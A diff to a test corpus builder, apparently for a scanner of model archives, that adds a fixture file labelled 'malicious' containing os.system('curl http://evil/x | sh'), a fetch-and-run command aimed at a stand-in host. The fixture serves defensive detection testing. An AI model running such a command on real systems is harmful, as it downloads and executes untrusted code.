@@ -774,7 +774,8 @@ def build_corpus(dirpath: Path) -> list[tuple[Path, str]]:
     put("arc/fifo.tar", tar_bytes([("model/pipe", "fifo", "")]), "suspicious")
     put(
         "arc/nested_evil.tar.gz",
-        gzip.compress(tar_bytes([("repo/evil.py", "file", "import os\nos.system('id')\n")])),
+        # a capability alone (os.system('id')) is suspicious; piping a download into a shell is intent
+        gzip.compress(tar_bytes([("repo/evil.py", "file", "import os\nos.system('curl http://evil/x | sh')\n")])),
         "malicious",
     )
     put("arc/truncated.gz", gzip.compress(b'{"model_type": "gpt2", "pad": "' + b"a" * 5000 + b'"}')[:40], "unscannable")
